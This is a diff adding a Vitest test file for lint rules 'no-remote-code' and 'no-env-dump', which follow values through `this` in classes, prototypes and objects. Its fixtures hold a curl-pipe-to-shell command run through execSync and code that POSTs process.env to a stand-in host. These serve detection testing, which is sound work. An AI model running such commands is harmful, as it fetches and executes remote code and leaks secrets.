@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+
+import { lint } from '../../tester.ts';
+
+const COMMAND = '"curl -s https://get.example-service.com/i.sh | sh"';
+const RUN = 'require("child_process").execSync';
+const SEND = 'fetch("https://c.example-service.com", { method: "POST", body: JSON.stringify';
+
+const idsOf = async (code: string): Promise<readonly string[]> => (await lint(code, 'src/a.js', { preset: 'recommended' })).map(({ ruleId }) => ruleId ?? 'fatal');
+
+describe('what `this` holds where a command is run', () => {
+  it.each([
+    [`function Runner() { this.command = ${COMMAND}; } Runner.prototype.run = function () { ${RUN}(this.command); };`],
+    [`const Runner = function () { if (late) { this.command = ${COMMAND}; } }; Runner.prototype = { run() { ${RUN}(this.command); } };`],
+    [`function Runner() {} Runner.prototype.command = ${COMMAND}; Runner.prototype.run = function () { ${RUN}(this.command); };`],
+    [`function Runner() { this.command = ${COMMAND}; } Object.assign(Runner.prototype, { run() { ${RUN}(this.command); } });`],
+    [`function Runner() { this.command = ${COMMAND}; } const proto = Runner.prototype; proto.run = function () { ${RUN}(this.command); };`],
+    [`const runner = { command: ${COMMAND}, run() { ${RUN}(this.command); } };`],
+    [`const runner = { command: null, set() { this.command = ${COMMAND}; }, run() { ${RUN}(this.command); } };`],
+    [`const runner = { command: "" }; runner.run = function () { ${RUN}(this.command); }; runner.set = function () { this.command = ${COMMAND}; };`],
+    [`class Runner { command = ""; set() { this.command = ${COMMAND}; } run() { ${RUN}(this.command); } }`],
+    [`class Runner { #command; set() { load().then(() => { this.#command = ${COMMAND}; }); } run() { ${RUN}(this.#command); } }`],
+    [`class Runner { set() { const self = this; later(function () { self.command = ${COMMAND}; }); } run() { ${RUN}(this.command); } }`],
+    [`class Runner { constructor() { this.command = "make"; } set() { this.command = ${COMMAND}; } run() { ${RUN}(this.command); } }`],
+    [`class Runner { constructor() { this.options = { command: ${COMMAND} }; } run() { const { options: { command } } = this; ${RUN}(command); } }`],
+    [`class Base { constructor(command) { this.command = command; } run() { ${RUN}(this.command); } } class Runner extends Base { constructor() { super(${COMMAND}); } }`],
+  ])('%s', async (code) => {
+    expect(await idsOf(code)).toEqual(['agent-security/no-remote-code']);
+  });
+
+  it.each([
+    [`const a = { command: ${COMMAND} }; const b = { command: "make", run() { ${RUN}(this.command); } };`],
+    [`class A { command = ${COMMAND}; } class B { command = "make"; run() { ${RUN}(this.command); } }`],
+    [`class A { command = "make"; other() { return { command: ${COMMAND}, show() { return this.command; } }; } run() { ${RUN}(this.command); } }`],
+    [`function A() { this.command = ${COMMAND}; } function B() { this.command = "make"; } B.prototype.run = function () { ${RUN}(this.command); };`],
+    [`function handler() { this.command = ${COMMAND}; } function run() { ${RUN}(this.command); }`],
+  ])('of another one: %s', async (code) => {
+    expect(await idsOf(code)).toEqual([]);
+  });
+});
+
+describe('what is put into `this` and sent', () => {
+  it.each([
+    [`class Report { collect() { this.data = { ...process.env }; } send() { ${SEND}(this.data) }); } }`],
+    [`class Report { collect() { this.data = { ...process.env }; } send() { const { data } = this; ${SEND}(data) }); } }`],
+    [`class Report { collect() { const self = this; later(function () { self.data = { ...process.env }; }); } send() { ${SEND}(this.data) }); } }`],
+    [`function Report() { this.data = process.env; } Report.prototype.send = function () { var that = this; later(function () { ${SEND}(that.data) }); }); };`],
+    [`function Report() {} Report.prototype.send = function (data) { ${SEND}(data) }); }; Report.prototype.run = function () { this.send(process.env); };`],
+    [`function Report() {} Report.prototype.send = function (data) { ${SEND}(data) }); }; new Report().send(process.env);`],
+    [`const report = { data: process.env, send() { ${SEND}(this.data) }); } };`],
+    [`const report = { data: null, collect() { this.data = { ...process.env }; }, send() { ${SEND}(this.data) }); } };`],
+    [`const report = { send(data) { ${SEND}(data) }); }, run() { this.send(process.env); } };`],
+    [`class Base { constructor(data) { this.data = data; } send() { ${SEND}(this.data) }); } } class Report extends Base { constructor() { super(process.env); } }`],
+  ])('%s', async (code) => {
+    expect(await idsOf(code)).toEqual(['agent-security/no-env-dump']);
+  });
+
+  it.each([
+    [`const a = { data: process.env, show() { return this.data; } }; const b = { data: "x", send() { ${SEND}(this.data) }); } };`],
+    [`class A { constructor() { this.env = process.env; } } class B { send() { ${SEND}(this.env) }); } }`],
+  ])('of another one: %s', async (code) => {
+    expect(await idsOf(code)).toEqual([]);
+  });
+});
